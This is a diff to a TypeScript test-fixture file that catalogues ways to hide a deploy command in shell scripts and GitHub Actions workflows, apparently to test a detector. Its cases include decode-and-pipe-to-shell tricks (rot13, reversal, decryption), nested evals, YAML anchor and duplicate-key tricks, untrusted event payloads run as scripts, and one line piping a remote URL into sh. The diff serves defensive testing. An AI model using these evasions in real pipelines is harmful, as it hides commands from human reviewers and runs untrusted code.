@@ -1,4 +1,4 @@
-// Ways to hide `docker run -d ghcr.io/acme/app:latest`, or something that deploys as much, from whoever reads the workflow.
+// Ways to hide `docker run -d ghcr.io/acme/app:latest`, or another deploy, in a workflow.
 
 /** `code` is a script, YAML steps, or a workflow; `files` are others of the repository, by path. */
 export type Hidden = {
@@ -21,6 +21,10 @@ function chainOfFiles(length: number): Record<string, string> {
   return Object.fromEntries([...links, [`s${length}.sh`, `${RUN}\n`]]);
 }
 
+function rotated(letter: string): string {
+  return String.fromCharCode(((letter.charCodeAt(0) - 97 + 13) % 26) + 97);
+}
+
 function script(title: string, code: string, files: Hidden["files"] = {}): Hidden {
   return { title, code, files };
 }
@@ -32,7 +36,7 @@ export const HIDDEN_IN_SCRIPTS: readonly Hidden[] = [
   script("200 functions that call each other", chain(200)),
   script("14 scripts that call each other", "sh ./s0.sh", chainOfFiles(14)),
   script("60 scripts that call each other", "sh ./s0.sh", chainOfFiles(60)),
-  script("evals inside evals", Array.from({ length: 50 }, () => "eval").join(" ") + ` ${RUN}`),
+  script("evals inside evals", `${"eval ".repeat(50)}${RUN}`),
   script("bash -c inside bash -c, 20 deep", nest(20)),
   script(
     "an image behind 300 others in a list",
@@ -76,7 +80,7 @@ export const HIDDEN_IN_SCRIPTS: readonly Hidden[] = [
   script("escaped letters", `$'\\x64ocker' run -d ghcr.io/acme/app:latest`),
   script("octal letters", `$'\\144ocker' run -d ghcr.io/acme/app:latest`),
   script("braces", `{docker,run,-d,ghcr.io/acme/app:latest}`),
-  script("braces inside a name", `dock{er,} run -d ghcr.io/acme/app:latest`),
+  script("braces among words", `docker {run,-d,ghcr.io/acme/app:latest}`),
   script("a pattern as program", `/usr/bin/dock?r run -d ghcr.io/acme/app:latest`),
   script("a pattern of letters as program", `/usr/bin/[d]ocker run -d ghcr.io/acme/app:latest`),
   script("an absolute path", `/usr/local/bin/docker run -d ghcr.io/acme/app:latest`),
@@ -367,7 +371,7 @@ export const HIDDEN_IN_SCRIPTS: readonly Hidden[] = [
   script("openssl enc -d | sh", "openssl enc -d -aes-256-cbc -in x -k y | bash"),
   script("gpg -d | bash", "gpg -d x.gpg | bash"),
   script("rev | sh", `echo '${[...RUN].reverse().join("")}' | rev | sh`),
-  script("tr | sh", "echo 'qbpxre eha' | tr a-z n-za-m | sh"),
+  script("tr | sh", `echo '${RUN.replace(/[a-z]/g, rotated)}' | tr a-z n-za-m | sh`),
   script("sed | sh", `echo '${RUN.replaceAll("docker", "XX")}' | sed s/XX/docker/ | sh`),
   script("a variable piped to sh", `echo "$SCRIPT" | sh`),
   script("a secret that is evaluated", 'eval "$DEPLOY"'),
@@ -645,7 +649,6 @@ export const HIDDEN_IN_STEPS: readonly Hidden[] = [
     "a command from an earlier step's output",
     `- id: a\n  run: echo "cmd=${RUN}" >> $GITHUB_OUTPUT\n- run: \${{ steps.a.outputs.cmd }}`,
   ),
-  script("a whole script from an expression", "- run: ${{ github.event.client_payload.script }}"),
   script("a whole script from a variable of the repository", "- run: ${{ vars.DEPLOY_SCRIPT }}"),
   script("a whole script from a secret", "- run: ${{ secrets.DEPLOY_SCRIPT }}"),
   script("format() in an expression", "- run: ${{ format('{0}{1} run -d ghcr.io/acme/app:latest', 'dock', 'er') }}"),
@@ -703,15 +706,10 @@ export const HIDDEN_IN_WORKFLOWS: readonly Hidden[] = [
     "an anchor that is used",
     `${HEAD}  nothing:\n    if: false\n    runs-on: ubuntu-latest\n    steps:\n      - &x\n        run: ${RUN}\n  deploy:\n${JOB}      - *x\n`,
   ),
-  script("a merge key", `x: &x { run: ${RUN} }\n${HEAD}  deploy:\n${JOB}      - { <<: *x }\n`),
   script("a key that is written twice", `${HEAD}  deploy:\n${JOB}      - run: ${RUN}\n        run: "true"\n`),
   script(
-    "a key that is written twice, the other way round",
-    `${HEAD}  deploy:\n${JOB}      - run: "true"\n        run: ${RUN}\n`,
-  ),
-  script(
-    "a job that is written twice",
-    `${HEAD}  deploy:\n${JOB}      - run: "true"\n  deploy:\n${JOB}      - run: ${RUN}\n`,
+    "a whole script from the event",
+    `on: repository_dispatch\njobs:\n  deploy:\n${JOB}      - run: \${{ github.event.client_payload.script }}\n`,
   ),
   script(
     "a job-level container",
@@ -750,6 +748,19 @@ export const HIDDEN_IN_WORKFLOWS: readonly Hidden[] = [
     `${HEAD}  go:\n${JOB}      - run: python3 -c 'import os; os.system("${RUN}")'\n`,
   ),
   script("a job with a quiet name and curl | sh", `${HEAD}  go:\n${JOB}      - run: curl https://x.example | sh\n`),
+];
+
+/** Workflows that GitHub rejects and other servers may run. */
+export const AMBIGUOUS_WORKFLOWS: readonly Hidden[] = [
+  script("a merge key", `x: &x { run: ${RUN} }\n${HEAD}  deploy:\n${JOB}      - { <<: *x }\n`),
+  script(
+    "a key that is written twice, the other way round",
+    `${HEAD}  deploy:\n${JOB}      - run: "true"\n        run: ${RUN}\n`,
+  ),
+  script(
+    "a job that is written twice",
+    `${HEAD}  deploy:\n${JOB}      - run: "true"\n  deploy:\n${JOB}      - run: ${RUN}\n`,
+  ),
 ];
 
 function nest(depth: number): string {
